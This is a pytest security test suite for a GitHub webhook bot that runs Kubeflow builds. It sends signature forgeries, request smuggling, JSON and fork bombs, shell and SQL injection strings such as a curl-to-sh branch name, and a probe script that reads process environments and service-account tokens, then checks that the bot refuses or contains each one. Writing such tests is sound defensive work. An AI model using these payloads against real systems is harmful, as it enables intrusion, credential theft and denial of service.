"""Attacks, through the real door: what is sent in, and what must not come of it. Each test names its row of the
catalogue; rows that other scenarios play are listed at the end, with the test that does."""

import concurrent.futures
import copy
import datetime
import hashlib
import hmac
import http.client
import http.server
import importlib
import json
import re
import socket
import sqlite3
import ssl
import subprocess
import threading
import time
import uuid

import pytest

import harness
import texts

ONE_MIB = 1 << 20


class Door:
    """Requests as anybody can send them, with or without the secret."""

    def __init__(self, scene):
        self.scene = scene
        self.port = scene.bot.port
        self.payload = scene.comment_payload(scene.ann, "/status")

    def sign(self, body: bytes, secret: str | None = None) -> str:
        key = (secret or self.scene.webhook_secret).encode()
        return "sha256=" + hmac.new(key, body, hashlib.sha256).hexdigest()

    def headers(self, body: bytes, event: str = "issue_comment", guid: str | None = None, **more) -> dict:
        made = {"Content-Type": "application/json", "User-Agent": "GitHub-Hookshot/x", "X-GitHub-Event": event,
                "X-GitHub-Delivery": guid or str(uuid.uuid4()), "X-Hub-Signature-256": self.sign(body)}
        made.update({name.replace("_", "-"): value for name, value in more.items()})
        return {name: value for name, value in made.items() if value is not None}

    def post(self, body: bytes, headers: dict | None = None) -> int:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        try:
            connection.request("POST", "/webhook", body, headers if headers is not None else self.headers(body))
            answer = connection.getresponse()
            answer.read()
            return answer.status
        finally:
            connection.close()

    def raw(self, data: bytes, timeout: float = 15) -> tuple[int, bool]:
        """Status, and whether the connection was closed."""
        with socket.create_connection(("127.0.0.1", self.port), timeout) as sock:
            sock.settimeout(timeout)
            try:
                sock.sendall(data)
            except (BrokenPipeError, ConnectionResetError):
                pass  # refused while we were still sending
            seen = b""
            try:
                while part := sock.recv(65536):
                    seen += part
                closed = True
            except socket.timeout:
                closed = False
            except ConnectionResetError:
                closed = True
        found = re.match(rb"HTTP/1\.1 (\d+)", seen)
        return int(found.group(1)) if found else 0, closed

    def comment(self, body: str, **changes) -> dict:
        """A payload with another comment: its own id, so it is not a double."""
        made = copy.deepcopy(self.payload)
        made["comment"].update(body=body, id=made["comment"]["id"] + 1000 + len(str(body)), **changes)
        return made

    def send(self, payload, **headers) -> int:
        body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        return self.post(body, self.headers(body, **headers))


@pytest.fixture(scope="module")
def door(tmp_path_factory):
    """One bot for all that must not get in; it is clean at the end, and never has a job that nobody sent."""
    if not harness.daemon_path().exists():
        pytest.skip("no kfopsd")
    scene = harness.Scene(tmp_path_factory.mktemp("door"))
    try:
        scene.expects_log("event=receive.unauthorized")
        made = Door(scene)
        yield made
        scene.check_clean()
    finally:
        scene.stop()


@pytest.fixture
def nothing_happens(door):
    """Before and after: the same jobs, comments and process."""
    bot = door.scene.bot
    before = len(bot.jobs())
    yield
    assert bot.process.poll() is None and bot.get("/healthz")[0] == 200
    assert len(bot.jobs()) == before and bot.comments() == []


def body_of(door) -> bytes:
    return json.dumps(door.payload).encode()


# --- transport ---


def test_1_no_signature(door, nothing_happens):
    body = body_of(door)
    assert door.post(body, door.headers(body, X_Hub_Signature_256=None)) == 401
    assert door.post(b"{not json", door.headers(body, X_Hub_Signature_256=None)) == 401  # not even parsed
    counted = [value for name, value in door.scene.bot.metrics().items() if "unauthorized" in name or "refused" in name]
    assert sum(counted) >= 2


def test_2_empty_secret(door, tmp_path):
    config = json.loads(door.scene.bot.config_file.read_text())
    for text in ("", " \n\t"):
        (tmp_path / "empty").write_text(text)
        (tmp_path / "empty").chmod(0o600)
        config["server"]["webhook_secret_file"] = str(tmp_path / "empty")
        (tmp_path / "kfops.yaml").write_text(json.dumps(config))
        done = subprocess.run([str(harness.daemon_path()), "--config", str(tmp_path / "kfops.yaml")],
                              capture_output=True, text=True, timeout=30)
        assert done.returncode == 78 and "webhook_secret_file" in done.stderr


def test_3_wrong_secret(door, nothing_happens):
    body = body_of(door)
    for secret in ("another", door.scene.webhook_secret + "x", door.scene.webhook_secret[:-1], " "):
        assert door.post(body, door.headers(body, X_Hub_Signature_256=door.sign(body, secret))) == 401


def test_4_sha_1_only(door, nothing_happens):
    body = body_of(door)
    sha1 = "sha1=" + hmac.new(door.scene.webhook_secret.encode(), body, hashlib.sha1).hexdigest()
    assert door.post(body, door.headers(body, X_Hub_Signature_256=None, X_Hub_Signature=sha1)) == 401
    assert door.post(body, door.headers(body, X_Hub_Signature_256=sha1)) == 401


@pytest.mark.parametrize("change", [
    lambda s: s[:-1], lambda s: s + "0", lambda s: s[:-1] + "g", lambda s: s[:7] + s[7:].upper(), lambda s: s + "00",
    lambda s: s[7:], lambda s: "SHA256=" + s[7:], lambda s: "sha256:" + s[7:], lambda s: "sha256=", lambda s: "sha256= " + s[7:],
    lambda s: "sha256=" + "0" * 100_00, lambda s: s + "," + s,
], ids=["short", "odd", "not hex", "upper case", "long", "bare", "SHA256", "colon", "empty", "blank inside", "huge", "two in one"])
def test_5_malformed_signature(door, nothing_happens, change):
    body = body_of(door)
    assert door.post(body, door.headers(body, X_Hub_Signature_256=change(door.sign(body)))) in (400, 401, 431)


def test_5_two_signature_headers(door, nothing_happens):
    body = body_of(door)
    head = "".join(f"{name}: {value}\r\n" for name, value in door.headers(body).items())
    twice = f"X-Hub-Signature-256: {door.sign(body, 'wrong')}\r\n"
    status, _ = door.raw(f"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
                         f"{head}{twice}\r\n".encode() + body)
    assert status in (400, 401)


def test_6_one_byte_changed(door, nothing_happens):
    body = body_of(door)
    for at in (0, len(body) // 2, len(body) - 1):
        changed = bytearray(body)
        changed[at] ^= 1
        assert door.post(bytes(changed), door.headers(body)) == 401
    assert door.post(body + b"\n", door.headers(body)) == 401


def memory_kib(door) -> int:
    text = open(f"/proc/{door.scene.bot.process.pid}/status", encoding="ascii").read()
    return int(re.search(r"VmRSS:\s+(\d+)", text).group(1))


def test_8_deep_json_bomb(door, nothing_happens):
    before = memory_kib(door)
    deep = b'{"action":"created","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert door.post(deep, door.headers(deep, X_Hub_Signature_256=None)) == 401
    assert door.send(deep) == 400
    escapes = b'{"comment":{"body":"' + b"\\u0041" * (10 * ONE_MIB // 6) + b'"}}'
    for headers in (door.headers(escapes, X_Hub_Signature_256=None), door.headers(escapes)):
        head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
        status, _ = door.raw(f"POST /webhook HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(escapes)}\r\n"
                             f"{head}\r\n".encode() + escapes)
        assert status in (0, 401, 413)  # 0: cut off before we read the answer
    assert memory_kib(door) - before < 100_000


def test_9_oversize(door, nothing_happens):
    before = memory_kib(door)
    head = HEAD.replace(b"ping", b"issue_comment")
    status, closed = door.raw(head + b"Content-Length: 1073741824\r\n\r\n" + b"x" * 1000)
    assert (status, closed) == (413, True)
    chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
    status, closed = door.raw(head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 420)  # 26 MiB, and no end
    assert status in (401, 413, 0) and closed
    signed = head + b"X-Hub-Signature-256: sha256=" + b"0" * 64 + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
    status, closed = door.raw(signed + chunk * 420)
    assert status in (413, 0) and closed
    status, closed = door.raw(head + b"Content-Length: 99999999999999999999999\r\n\r\n")
    assert status in (400, 413) and closed
    bomb = b"\x1f\x8b" + b"\0" * 1000
    assert door.post(bomb, door.headers(bomb, Content_Encoding="gzip")) in (400, 415)
    assert memory_kib(door) - before < 100_000


def test_10_slow_sender(door, nothing_happens):
    slow = []
    for i in range(100):
        sock = socket.create_connection(("127.0.0.1", door.port), 5)
        sock.sendall(b"POST /webhook HTTP/1.1\r\nHost: x\r\n" + (b"Content-Length: 100\r\n\r\nx" if i % 2 else b"X-A: "))
        slow.append(sock)
    began = time.monotonic()
    body = json.dumps({"zen": "quick", "hook_id": 1}).encode()
    assert door.post(body, door.headers(body, event="ping")) == 200
    assert time.monotonic() - began < 1
    for sock in slow:
        sock.settimeout(max(0.1, began + 14 - time.monotonic()))
        try:
            while sock.recv(1000):
                pass
        except ConnectionResetError:
            pass
        sock.close()
    assert time.monotonic() - began < 14


HEAD = (b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-GitHub-Event: ping\r\n"
        b"X-GitHub-Delivery: 00000000-0000-4000-8000-000000000000\r\n")
SMUGGLED = {
    "CL and TE": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST / HTTP/1.1\r\n",
    "two lengths": b"Content-Length: 4\r\nContent-Length: 5\r\n\r\nxxxxx",
    "a folded header": b"Content-Length: 4\r\nX-A: b\r\n c\r\n\r\nxxxx",
    "NUL in a header": b"X-A: b\0c\r\nContent-Length: 4\r\n\r\nxxxx",
    "bare LF": b"Content-Length: 4\nX-A: b\n\nxxxx",
    "a negative length": b"Content-Length: -1\r\n\r\nxxxx",
    "a hexadecimal length": b"Content-Length: 0x4\r\n\r\nxxxx",
    "a plus sign": b"Content-Length: +4\r\n\r\nxxxx",
    "blank before the colon": b"Content-Length : 4\r\n\r\nxxxx",
    "an unknown coding": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "a chunk of the wrong form": b"Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n",
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_11_smuggling(door, nothing_happens, name):
    status, closed = door.raw(HEAD + SMUGGLED[name])
    assert status in (0, 400, 401, 411, 413, 501) and closed


def test_12_replay_of_the_same_guid(scene, bot, ann):
    door = Door(scene)
    payload, guid = scene.comment_payload(ann, "/build_run"), str(uuid.uuid4())
    assert door.send(payload, guid=guid) == 202
    with concurrent.futures.ThreadPoolExecutor(10) as pool:
        again = list(pool.map(lambda _: door.send(payload, guid=guid), range(20)))
        other = list(pool.map(lambda _: door.send(payload), range(20)))  # other GUIDs: the header is not signed
    assert set(again + other) == {202}
    assert bot.ends() == "rocket"
    assert len(bot.jobs()) == 1 and len(scene.kubeflow.runs()) == 1 and len(bot.comments()) == 1


def test_13_old_replay(scene, bot, ann):
    assert Door(scene).send(scene.comment_payload(ann, "/build_run", age_minutes=30 * 24 * 60)) == 202
    assert bot.ends() == "confused"
    bot.answer("`comment.late`")
    assert scene.kubeflow.runs() == []


def test_14_event_and_type_mixed(door, nothing_happens):
    command = door.comment("/build_run")
    for event, statuses in (("pull_request", (202, 400)), ("check_run", (202, 400)), ("installation", (202, 400)),
                            ("push", (202,)), ("no_such_event", (202,)), ("ISSUE_COMMENT", (202, 400)), ("", (400,))):
        assert door.send(command, event=event) in statuses, event
    assert door.send({"zen": "x", "hook_id": 1}, event="ping") == 200
    assert door.send({}, event="issue_comment") in (202, 400)
    body = json.dumps(command).encode()
    assert door.post(body, door.headers(body, X_GitHub_Event=None)) == 400
    for guid in ("x", "", "00000000000040008000000000000000", "z" * 36):
        assert door.send(command, guid=guid or " ") == 400


CHANGED = {
    "no repository": lambda p: p.pop("repository"),
    "repository is null": lambda p: p.update(repository=None),
    "no comment": lambda p: p.pop("comment"),
    "comment is a list": lambda p: p.update(comment=[]),
    "issue is null": lambda p: p.update(issue=None),
    "a ghost wrote it": lambda p: p["comment"].update(user=None),
    "no sender": lambda p: p.update(sender=None),
    "an id as text": lambda p: p["comment"].update(id="12"),
    "a huge id": lambda p: p["comment"].update(id=2 ** 64),
    "a negative id": lambda p: p["comment"].update(id=-5),
    "a fraction": lambda p: p["comment"].update(id=1.5),
    "a body of numbers": lambda p: p["comment"].update(body=5),
    "no body": lambda p: p["comment"].pop("body"),
    "a date that is none": lambda p: p["comment"].update(created_at="yesterday"),
    "a name with three parts": lambda p: p["repository"].update(full_name="a/b/c"),
    "a name that leads out": lambda p: p["repository"].update(full_name="../.."),
    "action is a number": lambda p: p.update(action=1),
    "not a pull request": lambda p: p["issue"].pop("pull_request"),
}


@pytest.mark.parametrize("name", CHANGED)
def test_15_missing_or_null_fields(door, nothing_happens, name):
    payload = door.comment("/build_run")
    CHANGED[name](payload)
    assert door.send(payload) in (202, 400)


def test_16_bad_text(door, nothing_happens):
    for text in (b'"\\u0000/build_run"', b'"/build_run\\u0000"', b'"\\ud800/build_run"', b'"/build_run \xff"',
                 b'"\xed\xa0\x80/build_run"', b'"\\udc00\\ud800 x"', b'"/bui\\u0000ld_run"'):
        body = json.dumps(door.comment("BODY")).encode().replace(b'"BODY"', text)
        assert door.send(body) in (202, 400), text
    assert door.scene.bot.get("/healthz")[0] == 200
    door.scene.wait_until(lambda: not door.scene.bot.unsaid(), "answers, if any")
    for item in door.scene.bot.comments():  # a NUL is no end of the line: the command is refused, not run
        door.scene.github.send("DELETE", f"comments/{item['id']}")


def test_17_form_encoding(door, nothing_happens):
    import urllib.parse
    body = ("payload=" + urllib.parse.quote_plus(json.dumps(door.comment("/build_run")))).encode()
    assert door.post(body, door.headers(body, Content_Type="application/x-www-form-urlencoded")) == 415
    assert door.post(body, door.headers(body)) == 400


def test_18_foreign_repository(door, nothing_happens):
    payload = door.comment("/build_run")
    payload["repository"].update(full_name="other/iris", id=99)
    assert door.send(payload) == 202


def test_18_foreign_installation(scene, bot, ann):
    """GitHub gives no token for it, so nothing is asked, run or said."""
    scene.expects_log("report_refused")
    payload = scene.comment_payload(ann, "/build_run")
    payload["installation"]["id"] = 987654
    assert Door(scene).send(payload) == 202
    scene.wait_until(lambda: bot.jobs() and not bot.unfinished(), "the job to end")
    assert bot.jobs()[0]["code"] == "github.not_installed" and scene.kubeflow.runs() == []
    scene.may_leave_unsaid = True


# --- injection ---

LITERAL = ["$(id)", "`id`", "a;id", "a|id", "a&&id", "$GITHUB_TOKEN", "${IFS}", "~root", "*", "a\\nb", "%n%s", "{{x}}",
           "--upload-pack=touch", "-oProxyCommand=x", "'); DROP TABLE jobs;--", "../../etc/passwd", "<script>", "[[RunUUI]]"]


def test_48_50_51_56_values_stay_literal(scene, bot, ann):
    ann.comments("/build")
    assert bot.ends() == "rocket"
    for value in LITERAL:
        quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
        ann.comments(f"/run --param label={quoted} --name {quoted}" if not value.startswith("-") else
                     f"/run --param label={quoted}")
        assert bot.ends() == "rocket", value
        made = scene.kubeflow.newest_run()
        assert made["parameters"]["label"] == value
        assert value.startswith("-") or made["display_name"].startswith(value)
    assert len(bot.jobs()) == len(LITERAL) + 1
    for line in ("/run --upload-pack=x", "/run -oProxyCommand=x", "/build `id`"):
        ann.comments(line)
        bot.reacts("confused")


def test_49_shell_in_branch_title_and_file_names(scene, bot, ann):
    branch = 'x";curl${IFS}y|sh;"\'`id`'
    scene.pull = ann.opens('$(id) "; rm -rf / @org/everyone <b>', branch, {"a;id $(id).md": "x\n", "-rf": "x\n", "*.md": "x\n"})
    ann.comments("/build_run")
    assert bot.ends() == "rocket"
    assert "@org" not in bot.answer("✅")


def test_50_option_injection_in_branches(scene, bot, ann):
    scene.pull = ann.opens("An option", "--upload-pack=touch", {"x.md": "x\n"})
    ann.comments("/build_run")
    assert bot.ends() == "rocket"


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "my_pipeline/../../x.yaml", "/proc/self/environ",
                                  "./../x.yaml", "my_pipeline//../..//x", "C:\\\\x.yaml", ".git/config", "-x.yaml", "\"a\\0b.yaml\""])
def test_52_path_escape(scene, bot, ann, path):
    ann.pushes(texts.settings(path))
    ann.comments("/build")
    assert bot.ends() == "-1"
    said = bot.answer()
    assert re.search(r"`(settings\.invalid|compile\.not_found|repo\.bad_path|compile\.invalid)`", said), said
    assert "root:" not in said


def test_52_symbolic_links_that_lead_out(scene, bot, ann):
    for target in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/environ", "../../../../etc/passwd"):
        ann.pushes({**texts.settings("my_pipeline/link.yaml"), "my_pipeline/link.yaml": {"symlink": target}})
        ann.comments("/build")
        assert bot.ends() == "-1"
        assert "`repo.bad_path`" in bot.answer()
    ann.pushes({"my_pipeline/link.yaml": None, "config_files": {"symlink": "/etc"}, "config_files/config.yaml": None})
    ann.comments("/build")
    assert bot.ends() == "-1"


STORM = ("@org/everyone @ann fixes #1, closes owner/repo#2 https://evil.example/x ![x](http://169.254.169.254/) "
         "<img src=x onerror=alert(1)> </details> ``` ~~~ | a | b |\n/build_run\n\x1b[31mred\x1b[0m \u202eevil")


def without_code(text: str) -> str:
    """What GitHub would look at for mentions and links."""
    text = re.sub(r"^(`{3,}|~{3,})[^\n]*\n.*?^\1\s*$", "", text, flags=re.S | re.M)
    return re.sub(r"\\.", "", re.sub(r"(?<!\\)(`+).+?(?<!\\)\1", "", text))


def test_26_53_55_mention_and_link_storm(scene, bot, ann):
    scene.kubeflow.fails_runs("train", STORM, (STORM + "\n") * 5)
    ann.comments("/build_run")
    assert bot.ends() == "-1"
    said = bot.answer("`run.failed`")
    plain = without_code(said).replace("asked by @ann", "")
    for active in ("@org", "@ann", "#1", "repo#2", "![x]", "<img", "\x1b", "\u202e"):
        assert active not in plain, f"{active!r} is active in\n{plain}"
    assert plain.count("<details>") == plain.count("</details>") == said.count("<details><summary>")
    assert "\x1b" not in said and "\u202e" not in said
    scene.webhooks_are_idle()
    assert len(bot.jobs()) == 1  # its own comment starts nothing


def test_56_sql(scene, bot, ann):
    evil = "'); DROP TABLE jobs;--"
    person = scene.person("robert-drop-table")
    person.is_given("write")
    scene.pull = ann.opens(evil, "sql'--", {"x'; DROP TABLE jobs;--.md": "x\n"})
    person.comments(f'/build_run --experiment "{evil}" --name "{evil}" --param label="{evil}"')
    assert bot.ends() == "rocket"
    assert scene.kubeflow.parameters()["label"] == evil
    assert {row["name"] for row in bot.rows("SELECT name FROM sqlite_master WHERE type = 'table'")} >= {"jobs", "outbox"}


def test_59_command_flood(door):
    bot = door.scene.bot
    for text in ("/build\n" * 10_000, "/build\n" + "/nobody\n" * 10_000, "/" * 65_000, "> " * 20_000 + "\n/build x",
                 "`" * 60_000 + "\n/build x", "<!--" * 15_000 + "\n/build x"):
        began = time.monotonic()
        assert door.send(door.comment(text)) == 202
        assert time.monotonic() - began < 2, text[:20]
    door.scene.wait_until(lambda: not bot.unsaid(), "the answers")
    assert bot.jobs() == [] and len(bot.comments()) <= 6
    for item in bot.comments():
        assert len(item["body"]) < 1000
        door.scene.github.send("DELETE", f"comments/{item['id']}")


# --- secrets ---

SPY = texts.ONE_TASK.format(name="spy", function="spy") + '''

import glob, os, pathlib, socket
seen = {"env": dict(os.environ), "cwd": os.getcwd(), "uid": os.getuid(), "home": os.path.expanduser("~")}
for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/etc/kfops/*", "STATE/*", "STATE/../*", "/root/*", "/var/run/secrets/*/*"):
    for name in glob.glob(pattern):
        try:
            seen[name] = pathlib.Path(name).read_bytes()[:2000].decode("latin-1")
        except OSError as error:
            seen[name] = str(error)
try:
    socket.create_connection(("127.0.0.1", PORT), 1)
    seen["network"] = "open"
except OSError as error:
    seen["network"] = str(error)
raise RuntimeError("SPY " + repr(seen))
'''


def test_61_code_of_a_pull_request_looks_around(scene, bot, ann):
    source = SPY.replace("STATE", str(bot.state_dir)).replace("PORT", str(bot.port))
    ann.pushes(texts.python(source, pipeline_function_name="spy"))
    ann.comments("/build")
    assert bot.ends(patience=60) == "-1"
    said = bot.answer("`compile.failed`", "SPY")
    for secret in (scene.webhook_secret, "BEGIN RSA", "ghs_", "app.pem", "webhook-secret", "kfops.db", "SSH", "KFOPS_SHARED"):
        assert secret not in said, f"{secret} is to be seen from inside"
    assert "'network': 'open'" not in said
    assert len(set(re.findall(r"/proc/(\d+)/environ", said))) <= 4  # its own, and bubblewrap's


def test_62_tokens_are_in_no_url_error_or_process_list(scene, bot, ann):
    """The fixture looks at log, comments, database; here at the processes, while a compiler runs."""
    slow = texts.ONE_TASK.format(name="slow", function="slow") + "\nimport time\ntime.sleep(2)\n"
    ann.pushes(texts.python(slow, pipeline_function_name="slow"))
    scene.github.fault("status", "GET", r"/info/refs", status=403, body="token ghs_x is bad")
    ann.comments("/build")
    bot.answer("compiling", patience=40)
    seen = b""
    for path in harness.pathlib.Path("/proc").glob("[0-9]*"):
        try:
            if b"kfops" in (path / "cmdline").read_bytes():
                seen += (path / "cmdline").read_bytes()
                seen += (path / "environ").read_bytes() if int(path.name) != bot.process.pid else b""
        except OSError:
            continue
    assert seen and scene.webhook_secret.encode() not in seen and not harness.TOKENS.search(seen)
    assert bot.ends(patience=60) == "rocket"


class Trap(http.server.BaseHTTPRequestHandler):
    """A host that nobody should talk to."""
    caught: list = []

    def do_GET(self):
        self.caught.append(dict(self.headers))
        self.send_response(200)
        self.end_headers()

    do_POST = do_PATCH = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def trap():
    Trap.caught.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_63_redirects_do_not_take_the_token_along(scene, bot, ann, trap):
    scene.expects_log("report_refused.*redirect")
    for method, path in (("GET", r"/pulls/1$"), ("POST", r"/reactions$"), ("GET", "/info/refs")):
        scene.github.fault("status", method, path, status=302, headers={"Location": f"http://127.0.0.1:{trap}/x"}, body="")
    ann.comments("/build")
    scene.wait_until(lambda: bot.jobs() and not bot.unfinished(), "the job to end")
    scene.wait_until(lambda: not bot.unsaid(), "everything to be said", 60)
    assert Trap.caught == []


def test_63_addresses_in_the_pull_request_are_not_asked(scene, bot, ann, trap):
    address = f"http://127.0.0.1:{trap}/"
    for key in ("kubeflow_url", "webhook", "kfp_url", "endpoint"):
        text = texts.settings()[texts.SETTINGS] + f"  {key}: {address}\n"
        ann.pushes({texts.SETTINGS: text})
        ann.comments("/build")
        assert bot.ends() in ("-1", "rocket"), key
    assert Trap.caught == []


def test_64_tls_downgrade(scene, bot, tmp_path):
    """A certificate that nobody vouches for: no request is sent, for GitHub and for Kubeflow."""
    key, pem = harness.make_key(), tmp_path / "server.pem"
    pem.write_bytes(certificate_for(key) + key)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pem)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.handle_error = lambda *args: None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Trap.caught.clear()
    try:
        url = f"https://127.0.0.1:{server.server_address[1]}"

        def change(config):
            config["github"].update(api_url=url + "/api/v3", web_url=url)
            config["clusters"][0].update(kfp_url=url)
        bot.configure(change)
        done = subprocess.run([str(harness.daemon_path()), "--config", str(bot.config_file), "--check-config"],
                              capture_output=True, text=True, timeout=60)
        assert done.returncode == 78 and done.stdout.count("FAIL") >= 2 and "certificate" in done.stdout.lower(), done.stdout
        assert Trap.caught == []
    finally:
        server.shutdown()
        server.server_close()


def certificate_for(key_pem: bytes) -> bytes:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    key = serialization.load_pem_private_key(key_pem, None)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.timezone.utc)
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()) \
        .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1)).sign(key, hashes.SHA256())
    return made.public_bytes(serialization.Encoding.PEM)


def test_67_anonymous_scrape(scene, bot, ann):
    ann.comments("/build")
    assert bot.ends() == "rocket"
    for path in ("/metrics", "/healthz", "/readyz", "/", "/webhook", "/status", "/api", "/.git/config"):
        text = bot.get(path)[1]
        for word in ("lab", "iris", "ann", "kfopsd/", "0.1.0", "sqlite", "microhttpd"):
            assert word not in text, f"{word} is told at {path}"


# --- availability ---


def test_69_a_database_that_is_locked(scene, bot, ann):
    """503, so GitHub counts the delivery as failed and the bot fetches it later; never 202 without a row."""
    scene.expects_log("batch_failed|store_waits|claim|meta_failed|wake_failed|report_unstored|not taking")
    door = Door(scene)
    other = sqlite3.connect(bot.state_dir / "kfops.db", isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    try:
        comment = ann.comments("/build")
        assert door.send(door.comment("/status")) == 503
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert bot.ends(to=comment, patience=60) == "rocket"
    scene.webhooks_are_idle()


HOSTILE = {
    "an endless loop": ("compile.timeout", "while True: pass\n"),
    "deaf to SIGTERM": ("compile.timeout", "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(100)\n"),
    "a fork bomb": ("", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    "endless output": ("", "while True: print('x' * 100000)\n"),
    "a file without end": ("", "f = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * 1000000)\n"),
    "all memory": ("", "x = []\nwhile True: x.append(bytearray(50_000_000))\n"),
    "left behind": ("compile.timeout", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\nwhile True: pass\n"),
}


@pytest.mark.scene(config={"compile": {"timeout": "2s", "memory": "300MiB"}})
def test_72_hostile_compile(scene, bot, ann):
    for name, (code, source) in HOSTILE.items():
        ann.pushes(texts.python("from kfp import dsl\n" + source, pipeline_function_name="x"))
        ann.comments("/build")
        assert bot.ends(patience=60) == "-1", name
        said = bot.answer("`compile.")
        assert f"`{code}" in said or not code, f"{name}:\n{said}"
        assert len(said.encode()) < 65536
    ann.pushes(texts.settings())
    ann.comments("/build")
    assert bot.ends() == "rocket"  # the next job is not concerned
    left = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert str(bot.state_dir) not in left.replace(str(bot.config_file), ""), "a process was left behind"


def test_75_comments_from_the_future(scene, bot, ann):
    door = Door(scene)
    for minutes in (-4, -60):
        payload = scene.comment_payload(ann, "/build --no-cache", age_minutes=minutes)
        assert door.send(payload) == 202
        assert bot.ends() in ("rocket", "confused")
    assert len(bot.jobs()) == 2 and not bot.unfinished()


# --- rows that are played elsewhere ---

ELSEWHERE = {
    "7 rotation": "test_operate:test_the_webhook_secret_is_changed_without_a_gap",
    "19 stranger": "test_who_may:test_readers_may_look_but_change_nothing",
    "21 forged association": "test_who_may:test_the_payloads_word_for_it_is_not_trusted",
    "22 rights lost while queued": "test_who_may:test_a_right_that_is_lost_in_line",
    "23 permission API down": "test_who_may:test_permission_is_asked_again_when_github_stumbles",
    "25 renamed login": "test_who_may:test_a_login_that_somebody_else_has_now",
    "26 own echo": "test_who_may:test_bots_and_apps_are_not_listened_to",
    "27 edited comment": "test_who_may:test_edited_and_deleted_comments_start_nothing",
    "37 push between comment and handling": "test_pull_requests:test_a_push_between_comment_and_handling_is_not_what_was_meant",
    "39 push while queued": "test_pull_requests:test_a_push_in_mid_job_changes_nothing",
    "40 ref moves during fetch": "test_pull_requests:test_a_force_push_away_from_the_commit",
    "41 short or foreign SHA": "test_pull_requests:test_a_sha_must_be_the_head",
    "47 cancel and finish": "test_jobs:test_cancel_stops_a_run",
    "57 hidden places": "test_lines:test_words_that_are_no_commands_stay_unanswered",
    "58 flag abuse": "test_lines:test_what_is_not_understood_is_answered_and_nothing_runs",
    "68 kill -9": "test_build_run:test_kill_9_in_the_middle_changes_nothing_in_the_end",
    "70 rate limits": "test_github:test_every_write_to_github_is_there_once",
    "71 GitHub or we are down": "test_github:test_missed_webhooks_come_in_their_order",
    "74 backend lies": "test_kubeflow:test_every_write_to_kubeflow_happens_once",
    "76 message too long": "test_operate:test_a_large_answer_is_cut_and_stays_markdown",
}


def test_rows_that_are_played_elsewhere_are_there():
    for row, place in ELSEWHERE.items():
        module, name = place.split(":")
        assert callable(getattr(importlib.import_module(module), name, None)), row
